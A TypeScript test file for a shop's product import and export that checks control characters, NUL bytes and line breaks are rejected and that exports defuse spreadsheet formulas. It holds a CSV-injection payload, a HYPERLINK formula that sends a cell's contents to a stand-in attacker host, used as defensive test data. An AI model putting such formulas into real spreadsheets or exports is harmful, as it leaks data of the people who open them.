import { inputGuardTexts } from '@wohnwerk/contract/input-guard';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { products } from '../../db/schema/catalog.ts';
import type { TestContext } from '../../test/test-app.ts';
import { type CatalogFixture, catalogTestApp } from '../catalog/catalog.fixtures.ts';
import { importSteps } from './imports.fixtures.ts';

/**
 * The texts of an import file pass the checks of the product form (decision 013: no control
 * characters, no line break in a name), and texts the CSV export writes come back unchanged even
 * where a spreadsheet would have read them as formulas (decision 149).
 */
let t: TestContext;
let f: CatalogFixture;
let staff: { authorization: string };

beforeAll(async () => {
  ({ t, f, staff } = await catalogTestApp());
});
afterAll(() => t.close());

const { upload, waitFor, apply, product, productCount, exportCsv } = importSteps(() => ({ t, staff }));

/** Category and shop of an existing product, as the export names them (a new product needs both). */
async function refs() {
  const [header, ...rows] = parse(await exportCsv(), { delimiter: ';', bom: true }) as string[][];
  const torino = rows.find((r) => r[0] === f.products.torino.code)!;
  return { category: torino[header.indexOf('Kategorie')], shop: torino[header.indexOf('Shop')] };
}

const HEAD = 'Artikelnummer;Name;Kategorie;Shop;Preis;Bestand;Beschreibung';
const { control, lineBreak } = inputGuardTexts.de;

describe('import texts pass the product form’s input guard', () => {
  it('a line break in a quoted name cell is a row error on that row; a description keeps its line breaks', async () => {
    const { category, shop } = await refs();
    const row = (code: string, name: string, description = 'Regal') =>
      `${code};${name};${category};${shop};99,00;1;${description}`;
    const file = [
      HEAD,
      row('TXT-1', '"Regal\r\nEiche"'), // row 2, over two lines of the file
      row('TXT-2', 'Regal Buche', '"Zeile eins\nZeile zwei"'), // row 3
      row('TXT-3', 'Regal\u0007Ahorn'), // row 4
      row('TXT-4', 'Regal Kiefer', 'Text\u001bmit Escape'), // row 5
      row(f.products.lima181.code, '"Lima\n181"'), // row 6: an update
      row('TXT-6', 'Regal Birke'), // row 7
    ].join('\r\n');
    const id = await upload(`${file}\r\n`);
    const checked = await waitFor(id, ['checked', 'failed']);
    expect(checked).toMatchObject({ status: 'checked', created: 2, errors_total: 4 });
    expect(checked.errors).toEqual([
      { row: 2, code: 'TXT-1', column: 'Name', value: 'Regal\r\nEiche', message: lineBreak },
      { row: 4, code: 'TXT-3', column: 'Name', value: 'Regal\u0007Ahorn', message: control },
      { row: 5, code: 'TXT-4', column: 'Beschreibung', value: 'Text\u001bmit Escape', message: control },
      { row: 6, code: f.products.lima181.code, column: 'Name', value: 'Lima\n181', message: lineBreak },
    ]);
    await apply(id);
    expect(await product('TXT-1')).toBeUndefined();
    expect(await product('TXT-3')).toBeUndefined();
    expect((await product('TXT-2')).description).toBe('Zeile eins\nZeile zwei');
    expect((await product('TXT-6')).name).toBe('Regal Birke');
    expect((await product(f.products.lima181.code)).name).toBe(f.products.lima181.name);
  });

  it('a NUL byte deep in a CSV is a row error found at once, and nothing of that row is stored', async () => {
    const { category, shop } = await refs();
    const before = await productCount();
    const lines = [HEAD];
    for (let i = 1; i <= 300; i++) {
      const code = i === 260 ? 'NUL-\u0000260' : `NUL-${i}`;
      const name = i === 250 ? 'Regal \u0000 Eiche' : `Regal ${i}`;
      lines.push(`${code};${name};${category};${shop};10,00;1;Ein Regal mit genug Text für die ersten 4 kB`);
    }
    const file = Buffer.from(`${lines.join('\r\n')}\r\n`);
    expect(file.indexOf(0)).toBeGreaterThan(4096);
    const started = Date.now();
    const id = await upload(file);
    const checked = await waitFor(id, ['checked', 'failed']);
    expect(Date.now() - started).toBeLessThan(15_000);
    expect(checked).toMatchObject({ status: 'checked', created: 298, errors_total: 2 });
    expect(checked.errors).toEqual([
      // A NUL cannot be stored: the report shows it as U+FFFD.
      { row: 251, code: 'NUL-250', column: 'Name', value: 'Regal \uFFFD Eiche', message: control },
      { row: 261, code: 'NUL-\uFFFD260', column: 'Artikelnummer', value: 'NUL-\uFFFD260', message: control },
    ]);
    expect(await apply(id)).toMatchObject({ status: 'applied' });
    expect(await productCount()).toBe(before + 298);
    expect(await product('NUL-250')).toBeUndefined();
    expect(await product('NUL-251')).toMatchObject({ name: 'Regal 251' });
  });

  it('an XLSX name with a line break (or Excel’s _x000D_) is a row error too', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Artikel');
    sheet.addRow(['Artikelnummer', 'Name']);
    sheet.addRow([f.products.torino.code, 'Torino\nneu']);
    sheet.addRow([f.products.arco.code, 'Arco_x000D_neu']);
    const id = await upload(Buffer.from(await book.xlsx.writeBuffer()), 'artikel.xlsx');
    const checked = await waitFor(id, ['checked', 'failed']);
    expect(checked.errors).toEqual([
      { row: 2, code: f.products.torino.code, column: 'Name', value: 'Torino\nneu', message: lineBreak },
      { row: 3, code: f.products.arco.code, column: 'Name', value: 'Arco\rneu', message: lineBreak },
    ]);
  });
});

describe('the CSV export hands spreadsheets no formulas, and reads back what it wrote', () => {
  it('a formula-like name is exported behind an apostrophe and imports back exactly', async () => {
    const names = {
      [f.products.lima181.code]: '=HYPERLINK("http://evil.test/?x="&A2;"Klick")',
      [f.products.torino.code]: '-20 % Regal Torino',
      [f.products.arco.code]: "'=schon mit Apostroph",
    };
    for (const [code, name] of Object.entries(names)) {
      await t.db.update(products).set({ name }).where(eq(products.code, code));
    }
    const csv = await exportCsv();
    const [header, ...rows] = parse(csv, { delimiter: ';', bom: true, relax_column_count: true }) as string[][];
    const nameAt = header.indexOf('Name');
    const exported = (code: string) => rows.find((r) => r[0] === code)![nameAt];
    expect(exported(f.products.lima181.code)).toBe(`'${names[f.products.lima181.code]}`);
    expect(exported(f.products.torino.code)).toBe(`'${names[f.products.torino.code]}`);
    expect(exported(f.products.arco.code)).toBe(`''=schon mit Apostroph`);
    let cells = 0;
    for (const r of rows)
      for (const cell of r) {
        expect(cell, `${r[0]}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
        cells++;
      }
    expect(cells).toBe(rows.length * header.length);

    // Imported back: nothing changed; with a new stock the names are written again, exactly.
    expect(await waitFor(await upload(csv), ['checked', 'failed'])).toMatchObject({
      status: 'checked',
      updated: 0,
      unchanged: rows.length,
      errors_total: 0,
    });
    const stockAt = header.indexOf('Bestand');
    const edited = csv
      .split('\r\n')
      .map((line) => {
        const code = line.split(';')[0];
        if (!(code in names)) return line;
        const cells = parse(line, { delimiter: ';' })[0] as string[];
        cells[stockAt] = '77';
        return cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(';');
      })
      .join('\r\n');
    const id = await upload(edited);
    expect(await waitFor(id, ['checked', 'failed'])).toMatchObject({ updated: 3, errors_total: 0 });
    await apply(id);
    let visited = 0;
    for (const [code, name] of Object.entries(names)) {
      expect(await product(code)).toMatchObject({ name, stock: 77 });
      visited++;
    }
    expect(visited).toBe(3);
  });

  it('the XLSX export writes such a name as a text cell, not a formula', async () => {
    const res = await t.inject({ method: 'GET', url: '/api/v1/admin/products/export?format=xlsx', headers: staff });
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === f.products.lima181.code)!;
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe('=HYPERLINK("http://evil.test/?x="&A2;"Klick")');
  });
});
